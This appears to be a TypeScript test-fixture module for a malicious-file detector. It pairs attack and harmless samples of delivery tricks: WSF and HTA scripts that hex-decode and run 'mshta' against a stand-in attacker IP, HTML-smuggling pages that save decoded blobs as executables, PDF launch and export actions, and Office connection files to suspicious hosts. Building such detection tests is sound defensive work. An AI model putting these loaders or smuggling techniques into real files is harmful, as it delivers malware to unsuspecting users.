/** Ways to deliver a program besides macros: scripts in two languages, saved files, attachments of PDF and connections. */

import { pdf } from '../samples.ts'
import { writeZip } from '../zip-writer.ts'
import type { Pair } from './matrix.ts'

const SERVER = '203.0.113.5'
const OPAQUE = Buffer.from(Array.from({ length: 1_500 }, (_, i) => (i * i * 7 + i * 31 + 5) % 251)).toString('base64')

const file = (name: string, text: string | Uint8Array): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
const hexOf = (text: string): string => Buffer.from(text).toString('hex')

const RUN = 'new ActiveXObject("WScript.Shell").Run("mshta http://203.0.113.5/a.hta")'
const REPORT = 'WScript.Echo("The report of the month was written.")'
const DECODE_BASIC = (hex: string): string =>
  `Function D(h)\nDim i, s\nFor i = 1 To Len(h) Step 2\ns = s & Chr(CLng("&H" & Mid(h, i, 2)))\nNext\nD = s\nEnd Function\nDim T\nT = D("${hex}")`
const DECODE_SCRIPT = (hex: string): string =>
  `function D(h){var s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));return s}`.concat(
    `\nvar T=D("${hex}");`,
  )
const job = (first: [string, string], second: [string, string]): string =>
  `<?xml version="1.0"?><package><job id="a">${[first, second]
    .map(([language, source]) => `<script language="${language}"><![CDATA[${source}]]></script>`)
    .join('')}</job></package>`

/** VBScript decodes what JScript runs, and the other way round. */
const JOBS: readonly Pair[] = [
  {
    name: 'JScript runs a function of VBScript',
    attack: file('a.wsf', job(['VBScript', DECODE_BASIC(hexOf(RUN))], ['JScript', `eval(D("${hexOf(RUN)}"))`])),
    harmless: file(
      'a.wsf',
      job(['VBScript', DECODE_BASIC(hexOf(REPORT))], ['JScript', 'WScript.Echo(D("5265706f7274"))']),
    ),
  },
  {
    name: 'JScript runs a variable of VBScript',
    attack: file('a.wsf', job(['VBScript', DECODE_BASIC(hexOf(RUN))], ['JScript', 'eval(T)'])),
    harmless: file('a.wsf', job(['VBScript', DECODE_BASIC(hexOf(REPORT))], ['JScript', 'WScript.Echo(T)'])),
  },
  {
    name: 'JScript starts a command of VBScript',
    attack: file(
      'a.wsf',
      job(
        ['VBScript', DECODE_BASIC(hexOf('mshta http://203.0.113.5/a.hta'))],
        ['JScript', 'new ActiveXObject("WScript.Shell").Run(T, 0)'],
      ),
    ),
    harmless: file(
      'a.wsf',
      job(
        ['VBScript', 'Function Folder()\nFolder = "notepad.exe"\nEnd Function'],
        ['JScript', 'new ActiveXObject("WScript.Shell").Run(Folder())'],
      ),
    ),
  },
  {
    name: 'VBScript runs a function of JScript',
    attack: file(
      'a.wsf',
      job(
        ['JScript', DECODE_SCRIPT('')],
        ['VBScript', `ExecuteGlobal D("${hexOf('CreateObject("WScript.Shell").Run "mshta http://203.0.113.5/a"')}")`],
      ),
    ),
    harmless: file('a.wsf', job(['JScript', DECODE_SCRIPT('')], ['VBScript', 'WScript.Echo D("5265706f7274")'])),
  },
  {
    name: 'VBScript starts a command of JScript',
    attack: file(
      'a.wsf',
      job(
        ['JScript', DECODE_SCRIPT(hexOf('mshta http://203.0.113.5/a.hta'))],
        ['VBScript', 'CreateObject("WScript.Shell").Run T, 0'],
      ),
    ),
    harmless: file(
      'a.wsf',
      job(
        ['JScript', 'function folder(){return "notepad.exe"}'],
        ['VBScript', 'CreateObject("WScript.Shell").Run folder()'],
      ),
    ),
  },
  {
    name: 'an HTML application whose VBScript starts a command of JScript',
    attack: file(
      'a.hta',
      `<html><hta:application/><script language="JScript">${DECODE_SCRIPT(hexOf('mshta http://203.0.113.5/a.hta'))}</script><script language="VBScript">CreateObject("WScript.Shell").Run T, 0</script></html>`,
    ),
    harmless: file(
      'a.hta',
      '<html><hta:application/><script language="JScript">function folder(){return "notepad.exe"}</script><script language="VBScript">Sub Open_OnClick\nCreateObject("WScript.Shell").Run folder()\nEnd Sub</script></html>',
    ),
  },
]

const page = (body: string): Uint8Array =>
  Buffer.from(`<!DOCTYPE html><html><head><title>Document</title></head><body>${body}</body></html>`)
const saved = (name: string, data: string): string =>
  `<p>Your invoice is ready.</p><button onclick="save()">Download</button><script>function save(){var b=atob("${data}"),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i)^77;var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u],{type:"application/octet-stream"}));a.download="${name}";a.click()}</script>`
const keyed = (name: string): string =>
  `<p>Your invoice is ready.</p><button id="b">Download</button><script>document.getElementById("b").addEventListener("click",async()=>{const d=Uint8Array.from(atob("${OPAQUE}"),c=>c.charCodeAt(0));const k=await crypto.subtle.importKey("raw",new Uint8Array(32),"AES-CBC",false,["decrypt"]);const p=await crypto.subtle.decrypt({name:"AES-CBC",iv:new Uint8Array(16)},k,d);const a=document.createElement("a");a.href=URL.createObjectURL(new Blob([p]));a.download="${name}";a.click()})</script>`
const linked = (name: string, type: string): string =>
  `<p>Your invoice is ready.</p><a download="${name}" href="data:${type};base64,${OPAQUE}">Download</a>`
const parted = (name: string): string => {
  const parts = [OPAQUE.slice(0, 700), OPAQUE.slice(700, 1_400), OPAQUE.slice(1_400)]
  return `${parts.map((part, i) => `<div hidden id="p${i}">${part}</div>`).join('')}<button onclick="save()">Download</button><script>function save(){var s="";for(var i=0;i<3;i++)s+=document.getElementById("p"+i).textContent;var b=atob(s),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i)^91;var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u]));a.download="${name}";a.click()}</script>`
}
const hexed = (name: string): string =>
  `<button onclick="save()">Download</button><script>function save(){var h="${Buffer.from(OPAQUE, 'base64').toString('hex')}",u=new Uint8Array(h.length/2);for(var i=0;i<u.length;i++)u[i]=parseInt(h.substr(i*2,2),16)^19;var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u]));a.download="${name}";a.click()}</script>`

/** What is saved after a click and looks like no kind of file. The name decides. */
const SAVED: readonly Pair[] = (
  [
    ['decoded', (name: string) => saved(name, OPAQUE)],
    ['decrypted', keyed],
    ['in parts of the page', parted],
    ['as digits', hexed],
    ['in an address', (name: string) => linked(name, 'application/octet-stream')],
  ] as const
).flatMap(([how, write]) =>
  ['Invoice.zip', 'Invoice.iso', 'Invoice.js', 'Invoice.exe'].map((name) => ({
    name: `a file ${how} that a click saves as ${name}`,
    attack: page(write(name)),
    harmless: page(write(name.replace(/\.\w+$/, '.pdf'))),
  })),
)

const MZ = `MZ${'\0'.repeat(58)}\x80${'\0'.repeat(67)}PE\0\0${'\0'.repeat(400)}`
const attachment = (name: string, data: string, action: string): Uint8Array =>
  pdf([
    `<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(${name}) 4 0 R] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [<< /Type /Annot /Subtype /Link /Rect [100 100 300 140] /A ${action} >>] >>`,
    `<< /Type /Filespec /F (${name}) /UF (${name}) /EF << /F 5 0 R >> >>`,
    `<< /Type /EmbeddedFile /Length ${data.length} >>\nstream\n${data}\nendstream`,
  ])
const INSTALLER = Buffer.from('d0cf11e0a1b11ae1', 'hex').toString('latin1') + '\0'.repeat(600)
const SCRIPTED = 'var s = "report";\nfor (var i = 0; i < 3; i++) s += i;\n'
const EXPORT = (name: string, launch: number): string =>
  `<< /S /JavaScript /JS (this.exportDataObject\\({ cName: "${name}", nLaunch: ${launch} }\\);) >>`
const ATTACHED: readonly Pair[] = [
  ...[
    ['Setup.msi', INSTALLER],
    ['Viewer.exe', MZ],
    ['Invoice.js', SCRIPTED],
  ].flatMap(([name = '', data = '']) =>
    (
      [
        ['saves', EXPORT(name, 0)],
        ['opens', EXPORT(name, 2)],
        ['launches', `<< /S /Launch /F (${name}) >>`],
        ['goes to', `<< /S /GoToE /T << /R /C /N (${name}) >> >>`],
      ] as const
    ).map(([how, action]) => ({
      name: `a link of a PDF that ${how} the attached ${name}`,
      attack: attachment(name, data, action),
      harmless: attachment(
        'data.csv',
        'name;value\na;1\n',
        action.replaceAll(name, 'data.csv').replace('nLaunch: 2', 'nLaunch: 0'),
      ),
    })),
  ),
  ...(
    [
      ['a program', `http://files.example.net/Viewer.exe`],
      ['an installer', `https://files.example.net/dl/Reader_Setup.msi`],
      ['a script', `https://files.example.net/Invoice.js`],
    ] as const
  ).map(([what, address]) => ({
    name: `a button of a PDF that loads ${what}`,
    attack: pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /T (Update) /Rect [100 100 300 140] /A << /S /Launch /F (${address}) >> >>] >>`,
      '<< /Length 60 >>\nstream\nBT (Click the button to see this document) Tj ET            \nendstream',
    ]),
    harmless: pdf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /T (Update) /Rect [100 100 300 140] /A << /S /URI /URI (https://files.example.net/help.html) >> >>] >>`,
      '<< /Length 60 >>\nstream\nBT (Click the button to see this document) Tj ET            \nendstream',
    ]),
  })),
]

const STRANGERS = [
  `http://${SERVER}/q`,
  `https://${SERVER}:8443/q.txt`,
  'http://update-office.top/q',
  'https://a.b.xyz/q.dat',
  'http://files.example.click/q.php',
  'https://quiet-river.trycloudflare.com/q',
  'https://abc.ngrok-free.app/q',
  'http://files.duckdns.org/q',
]
const COMPANY = 'https://reports.corp.example.com/q?day=1'
const CONNECTIONS: Readonly<Record<string, (address: string) => string>> = {
  'a.iqy': (address) => `WEB\r\n1\r\n${address}\r\n\r\nSelection=AllTables\r\nFormatting=None\r\n`,
  'a.odc': (address) =>
    `<html><head><meta http-equiv=Content-Type content="text/x-ms-odc; charset=utf-8"><xml id=msodc><odc:OfficeDataConnection xmlns:odc="urn:schemas-microsoft-com:office:odc"><odc:Connection odc:Type="OLEDB"><odc:ConnectionString>Provider=Microsoft.Mashup.OleDb.1;Data Source=${address};Location=q</odc:ConnectionString></odc:Connection></odc:OfficeDataConnection></xml></head></html>`,
  'a.dqy': (address) => `XLODBC\r\n1\r\nDRIVER={SQL Server};SERVER=${address};UID=sa\r\nSELECT * FROM t\r\n`,
  'a.oqy': (address) => `QueryType=OLEDB\r\nVersion=1\r\nConnection=Provider=MSOLAP;Data Source=${address}\r\n`,
}
const CONNECTED: readonly Pair[] = Object.entries(CONNECTIONS).flatMap(([name, write]) =>
  STRANGERS.map((address) => ({
    name: `${name} to ${address}`,
    attack: file(name, write(address)),
    harmless: file(name, write(COMPANY)),
  })),
)

export const DELIVERIES: Readonly<Record<string, readonly Pair[]>> = {
  'scripts of two languages': JOBS,
  'files saved after a click': SAVED,
  'attachments of PDF': ATTACHED,
  connections: CONNECTED,
}
